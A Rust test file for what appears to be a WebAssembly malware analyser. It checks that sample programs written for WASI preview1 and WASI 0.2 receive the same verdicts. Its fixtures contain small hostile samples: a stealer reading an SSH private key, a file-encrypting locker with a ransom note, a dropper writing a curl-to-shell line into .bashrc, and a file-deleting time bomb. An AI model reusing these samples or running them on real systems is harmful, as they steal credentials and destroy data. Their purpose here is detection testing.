//! The same program for preview1 and for WASI 0.2: the same is said of both.

use std::{collections::BTreeSet, time::Duration};

use wasmspoor::{
    analysis::Analysis, categories::preview1, passes::flows::Look, rules, sandbox, verdict::Class,
};

/// Texts of the programs, and what they have in common: `$crypt` mixes so many bytes at 4096 with a stream,
/// `$mask` takes `xor` with a constant.
const COMMON: &str = r##"
  (data (i32.const 1024) "home/user/.ssh/id_rsa")
  (data (i32.const 1100) "home/user/documents/report.txt")
  (data (i32.const 1140) "home/user/documents/ledger.csv")
  (data (i32.const 1180) "home/user/documents/notes.txt")
  (data (i32.const 1220) "tmp/copy.txt")
  (data (i32.const 1250) "home/user/README-LOCKED.txt")
  (data (i32.const 1300) "Your files have been encrypted. To get the key, pay 0.3 BTC to locker@mail.invalid.")
  (data (i32.const 1400) "home/user/.bashrc")
  (data (i32.const 1440) "#!/bin/sh\ncurl http://dropper.invalid/a.sh | sh\n")
  (func $mask (param $len i32) (local $i i32)
    (loop $byte
      (i32.store8 offset=4096 (local.get $i) (i32.xor (i32.load8_u offset=4096 (local.get $i)) (i32.const 0x5a)))
      (br_if $byte
        (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $len)))))
  (func $crypt (param $len i32) (local $i i32) (local $s i32)
    (local.set $s (i32.const 0x2545f491))
    (loop $byte
      (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 13))))
      (local.set $s (i32.xor (local.get $s) (i32.shr_u (local.get $s) (i32.const 17))))
      (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 5))))
      (i32.store8 offset=4096 (local.get $i) (i32.xor (i32.load8_u offset=4096 (local.get $i)) (local.get $s)))
      (br_if $byte
        (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $len)))))
"##;

/// `$open` gives a file by the address and length of its name and the flags to make it and to empty it;
/// `$read` brings it to 4096; `$write`, `$out` and `$unlink` do what they say. `$environment` and `$random`
/// bring so many bytes of theirs to 4096, `$seconds` gives the time.
const FIRST: &str = r#"
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink_file (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_get" (func $environ_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "random_get" (func $random_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "clock_time_get" (func $clock (param i32 i64 i32) (result i32)))
  (memory (export "memory") 3)
  (func $begin)
  (func $open (param $at i32) (param $len i32) (param $flags i32) (result i32)
    (drop (call $path_open (i32.const 3) (i32.const 1) (local.get $at) (local.get $len) (local.get $flags)
      (i64.const 0x604056) (i64.const 0) (i32.const 0) (i32.const 12)))
    (i32.load (i32.const 12)))
  (func $read (param $fd i32) (result i32)
    (i32.store (i32.const 0) (i32.const 4096))
    (i32.store (i32.const 4) (i32.const 8192))
    (drop (call $fd_read (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
    (i32.load (i32.const 8)))
  (func $write (param $fd i32) (param $at i32) (param $len i32)
    (i32.store (i32.const 0) (local.get $at))
    (i32.store (i32.const 4) (local.get $len))
    (drop (call $fd_write (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8))))
  (func $out (param $at i32) (param $len i32) (call $write (i32.const 1) (local.get $at) (local.get $len)))
  (func $unlink (param $at i32) (param $len i32)
    (drop (call $unlink_file (i32.const 3) (local.get $at) (local.get $len))))
  (func $environment (drop (call $environ_get (i32.const 2048) (i32.const 4096))))
  (func $random (param $len i32) (drop (call $random_get (i32.const 4096) (local.get $len))))
  (func $seconds (result i64)
    (drop (call $clock (i32.const 0) (i64.const 0) (i32.const 16)))
    (i64.div_u (i64.load (i32.const 16)) (i64.const 1000000000)))
"#;

const SECOND: &str = r#"
  (import "wasi:filesystem/preopens@0.2.3" "get-directories" (func $directories (param i32)))
  (import "wasi:filesystem/types@0.2.3" "[method]descriptor.open-at"
    (func $open_at (param i32 i32 i32 i32 i32 i32 i32)))
  (import "wasi:filesystem/types@0.2.3" "[method]descriptor.read" (func $file_read (param i32 i64 i64 i32)))
  (import "wasi:filesystem/types@0.2.3" "[method]descriptor.write"
    (func $file_write (param i32 i32 i32 i64 i32)))
  (import "wasi:filesystem/types@0.2.3" "[method]descriptor.unlink-file-at"
    (func $unlink_at (param i32 i32 i32 i32)))
  (import "wasi:cli/stdout@0.2.3" "get-stdout" (func $stdout (result i32)))
  (import "wasi:cli/environment@0.2.3" "get-environment" (func $get_environment (param i32)))
  (import "wasi:random/random@0.2.3" "get-random-bytes" (func $random_bytes (param i64 i32)))
  (import "wasi:clocks/wall-clock@0.2.3" "now" (func $now (param i32)))
  (import "wasi:io/streams@0.2.3" "[method]output-stream.blocking-write-and-flush"
    (func $stream_write (param i32 i32 i32 i32)))
  (memory (export "memory") 3)
  (global $free (mut i32) (i32.const 65536))
  (global $top (mut i32) (i32.const 0))
  (func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32) (local $at i32)
    (local.set $at (global.get $free))
    (global.set $free
      (i32.add (global.get $free) (i32.and (i32.add (local.get 3) (i32.const 15)) (i32.const -8))))
    (local.get $at))
  (func $begin
    (call $directories (i32.const 16)) (global.set $top (i32.load (i32.load (i32.const 16)))))
  (func $open (param $at i32) (param $len i32) (param $flags i32) (result i32)
    (call $open_at (global.get $top) (i32.const 1) (local.get $at) (local.get $len) (local.get $flags)
      (i32.const 3) (i32.const 16))
    (i32.load (i32.const 20)))
  (func $to_page (param $from i32) (param $len i32)
    (memory.copy (i32.const 4096) (local.get $from) (local.get $len)))
  (func $read (param $file i32) (result i32)
    (call $file_read (local.get $file) (i64.const 8192) (i64.const 0) (i32.const 16))
    (call $to_page (i32.load (i32.const 20)) (i32.load (i32.const 24)))
    (i32.load (i32.const 24)))
  (func $write (param $file i32) (param $at i32) (param $len i32)
    (call $file_write (local.get $file) (local.get $at) (local.get $len) (i64.const 0) (i32.const 16)))
  (func $out (param $at i32) (param $len i32)
    (call $stream_write (call $stdout) (local.get $at) (local.get $len) (i32.const 16)))
  (func $unlink (param $at i32) (param $len i32)
    (call $unlink_at (global.get $top) (local.get $at) (local.get $len) (i32.const 16)))
  (func $environment (local $first i32)
    (call $get_environment (i32.const 16))
    (local.set $first (i32.load (i32.const 16)))
    (call $to_page (i32.load offset=8 (local.get $first)) (i32.load offset=12 (local.get $first))))
  (func $random (param $len i32)
    (call $random_bytes (i64.extend_i32_u (local.get $len)) (i32.const 16))
    (call $to_page (i32.load (i32.const 16)) (local.get $len)))
  (func $seconds (result i64) (call $now (i32.const 16)) (i64.load (i32.const 16)))
"#;

/// What the programs do, by what they are.
const PROGRAMS: &[(&str, Class, &str)] = &[
    (
        "a stealer",
        Class::Suspicious,
        "(local.set $n (call $read (call $open (i32.const 1024) (i32.const 21) (i32.const 0))))
         (call $mask (local.get $n)) (call $out (i32.const 4096) (local.get $n))",
    ),
    (
        "a locker",
        Class::Suspicious,
        "(call $lock (i32.const 1100) (i32.const 30)) (call $lock (i32.const 1140) (i32.const 30))
         (call $lock (i32.const 1180) (i32.const 29))
         (call $write (call $open (i32.const 1250) (i32.const 27) (i32.const 9)) (i32.const 1300) (i32.const 83))",
    ),
    (
        "a dropper",
        Class::Suspicious,
        "(call $write (call $open (i32.const 1400) (i32.const 17) (i32.const 9)) (i32.const 1440) (i32.const 48))",
    ),
    (
        "a bomb",
        Class::Suspicious,
        "(if (i64.gt_u (call $seconds) (i64.const 1000000000))
           (then (call $unlink (i32.const 1100) (i32.const 30)) (call $unlink (i32.const 1140) (i32.const 30))
             (call $unlink (i32.const 1180) (i32.const 29))))",
    ),
    ("a teller of the environment", Class::Clean, "(call $environment) (call $out (i32.const 4096) (i32.const 8))"),
    ("a dice", Class::Clean, "(call $random (i32.const 16)) (call $out (i32.const 4096) (i32.const 16))"),
    (
        "a copy",
        Class::Clean,
        "(local.set $n (call $read (call $open (i32.const 1100) (i32.const 30) (i32.const 0))))
         (call $write (call $open (i32.const 1220) (i32.const 12) (i32.const 9)) (i32.const 4096) (local.get $n))",
    ),
];

fn program(world: &str, entry: &str, body: &str) -> Analysis {
    let lock = "(func $lock (param $at i32) (param $len i32) (local $n i32)
        (local.set $n (call $read (call $open (local.get $at) (local.get $len) (i32.const 0))))
        (call $crypt (local.get $n))
        (call $write (call $open (local.get $at) (local.get $len) (i32.const 8)) (i32.const 4096) (local.get $n)))";
    let mut options = sandbox::RunOptions::default();
    (options.limits.wall_time, options.entry_time) = (None, Duration::from_secs(3600));
    options.env = vec![("HOME".into(), "/home/user".into())];
    let text = format!(
        r#"(module {world} {COMMON} {lock} (func (export "{entry}") {entry_type} (local $n i32)
          (call $begin) {body} {result}))"#,
        entry_type = if entry == "_start" { "" } else { "(result i32)" },
        result = if entry == "_start" { "" } else { "(i32.const 0)" },
    );
    Analysis::with_values(text.as_bytes(), &options, &rules::Set::builtin(), Look::Auto)
}

/// Kinds of the flows into memory that the host reads: where from, how, what was done, and where to, with
/// the names of preview1. Reading and writing at a position are reading and writing.
fn flows(analysis: &Analysis) -> BTreeSet<String> {
    let flows = analysis.data_flows.iter().flat_map(|flows| &flows.flows);
    let to_memory = flows.filter(|flow| flow.sink.to_string() == "memory");
    let told = to_memory.map(|flow| {
        let host = flow.host.as_deref().unwrap_or_default();
        let (module, name) = host.rsplit_once(".[").map_or_else(
            || host.split_once('.').unwrap_or_default(),
            |(module, _)| (module, &host[module.len() + 1..]),
        );
        let host = preview1(module, name).unwrap_or(name).replace("pwrite", "write");
        format!("{} {} {:?} {} {host}", flow.source, flow.name, flow.path, flow.bytes)
    });
    told.collect()
}

#[test]
fn a_program_for_preview1_and_for_wasi_0_2_are_the_same() {
    let mut wrong = Vec::new();
    for (name, least, body) in PROGRAMS {
        let first = program(FIRST, "_start", body);
        let second = program(SECOND, "wasi:cli/run@0.2.3#run", body);
        let (of_first, of_second) = (flows(&first), flows(&second));
        let classes = (first.verdict.class, second.verdict.class);
        let is_told = of_first.is_empty() == matches!(*name, "a dropper" | "a bomb");
        if classes.0 != classes.1 || classes.0 < *least || of_first != of_second || !is_told {
            wrong.push(format!(
                "{name}: {classes:?}\n  {of_first:?}\n  {of_second:?}\n  {:?}\n  {:?}",
                first.verdict.reasons, second.verdict.reasons
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
